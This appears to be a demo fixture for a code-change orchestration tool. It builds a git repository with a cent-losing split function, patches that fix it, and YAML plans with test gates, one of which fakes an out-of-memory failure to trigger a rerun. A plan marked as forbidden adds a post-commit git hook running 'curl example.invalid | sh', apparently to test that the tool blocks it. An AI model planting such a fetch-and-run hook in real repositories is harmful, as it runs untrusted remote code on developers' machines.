"""The repository and the plans of the demo: a small program with a fault, and those who mend it."""

import os
import shutil
import subprocess
import sys
from pathlib import Path

IDENTITY = {
    "GIT_AUTHOR_NAME": "demo",
    "GIT_AUTHOR_EMAIL": "demo@localhost",
    "GIT_COMMITTER_NAME": "demo",
    "GIT_COMMITTER_EMAIL": "demo@localhost",
    "GIT_CONFIG_GLOBAL": os.devnull,
    "GIT_CONFIG_NOSYSTEM": "1",
}

FILES = {
    "wallet.py": '''"""Money, in whole cents."""


def split(cents: int, people: int) -> list[int]:
    """Fair shares of an amount."""
    return [cents // people] * people
''',
    "tests/test_wallet.py": '''"""No cent is lost."""

from wallet import split


def test_shares_add_up() -> None:
    assert sum(split(100, 4)) == 100
''',
    "conftest.py": '''"""Tests find the program beside them."""
''',
}

FIX = """\
diff --git a/tests/test_wallet.py b/tests/test_wallet.py
--- a/tests/test_wallet.py
+++ b/tests/test_wallet.py
@@ -5,3 +5,7 @@ from wallet import split

 def test_shares_add_up() -> None:
     assert sum(split(100, 4)) == 100
+
+
+def test_no_cent_is_lost() -> None:
+    assert sum(split(100, 3)) == 100
diff --git a/wallet.py b/wallet.py
--- a/wallet.py
+++ b/wallet.py
@@ -3,4 +3,5 @@

 def split(cents: int, people: int) -> list[int]:
     \"\"\"Fair shares of an amount.\"\"\"
-    return [cents // people] * people
+    share, left = divmod(cents, people)
+    return [share + 1] * left + [share] * (people - left)
"""

NOTES = """\
diff --git a/NOTES.md b/NOTES.md
new file mode 100644
--- /dev/null
+++ b/NOTES.md
@@ -0,0 +1,3 @@
+# Notes
+
+Whoever comes first gets the odd cent.
"""

# Against a line that the fix has changed: it cannot be applied.
STALE = """\
diff --git a/wallet.py b/wallet.py
--- a/wallet.py
+++ b/wallet.py
@@ -3,4 +3,4 @@

 def split(cents: int, people: int) -> list[int]:
     \"\"\"Fair shares of an amount.\"\"\"
-    return [cents / people] * people
+    return [round(cents / people)] * people
"""

RISKY = """\
name: risky
title: A change that nobody should make
repository: {path: wallet, allowed_paths: ["*.py", "tests/**"]}
workstreams:
  - id: hook
    tasks:
      - id: sneak
        patch:
          diff: |
            diff --git a/.git/hooks/post-commit b/.git/hooks/post-commit
            new file mode 100755
            --- /dev/null
            +++ b/.git/hooks/post-commit
            @@ -0,0 +1 @@
            +curl example.invalid | sh
  - id: stale
    tasks:
      - id: outdated
        patch: stale.patch
"""

DELIVERY = """\
name: delivery
title: No cent is lost
repository: {{path: wallet, allowed_paths: ["*.py", "*.md", "tests/**"]}}
defaults:
  backoff: {{base: 1s, cap: 2s}}
  env: {{PYTHONDONTWRITEBYTECODE: 1, PYTEST_DISABLE_PLUGIN_AUTOLOAD: 1}}  # whatever is installed here
workstreams:
  - id: fix
    critical: true
    gates:
      - id: lint
        type: LINT
        command: [{python}, -m, ruff, check, --isolated, --no-cache, .]
      - id: unit
        type: UNIT
        depends_on: [lint]
        reruns: 1
        shell: |
          test -f .git/second-try || {{ touch .git/second-try; echo "the test machine ran out of memory"; exit 137; }}
          exec {python} -m pytest -q -p no:cacheprovider --rootdir . tests
    tasks:
      - id: split
        title: Share out the odd cents
        critical: true
        gates: [lint, unit]
        patch: {{file: fix.patch, message: Share out the odd cents}}
  - id: report
    tasks:
      - id: count
        title: A long count, whose worker is killed
        shell: echo counting; sleep 3; wc -l ../wallet/*.py 2>/dev/null || true
        retries: 2
      - id: tell
        depends_on: [count]
        command: [echo, counted]
  - id: document
    depends_on: [fix]
    tasks:
      - id: notes
        patch: {{file: notes.patch, message: Say who gets the odd cent}}
"""


def make(directory: Path) -> dict[str, Path]:
    """Create the repository and its plans; plan name -> file.

    Args:
        directory: whatever an earlier demo left there goes; readable by whoever runs the workers.
    """
    shutil.rmtree(directory, ignore_errors=True)
    repository = directory / "wallet"
    for name, text in FILES.items():
        file = repository / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    for words in (("init", "--quiet", "--initial-branch", "main"), ("add", "."), ("commit", "-qm", "A wallet")):
        subprocess.run(["git", *words], cwd=repository, env={**os.environ, **IDENTITY}, check=True)
    for name, diff in (("fix", FIX), ("notes", NOTES), ("stale", STALE)):
        (directory / f"{name}.patch").write_text(diff)
    plans = {"risky": RISKY, "delivery": DELIVERY.format(python=sys.executable)}
    for name, text in plans.items():
        (directory / f"{name}.yaml").write_text(text)
    return {name: directory / f"{name}.yaml" for name in plans}


def log(directory: Path) -> list[str]:
    """The repository's history on `main`, a line a commit, the newest first."""
    command = ["git", "log", "--format=%h %s", "main"]
    done = subprocess.run(command, cwd=directory / "wallet", capture_output=True, text=True, check=True)
    return done.stdout.splitlines()
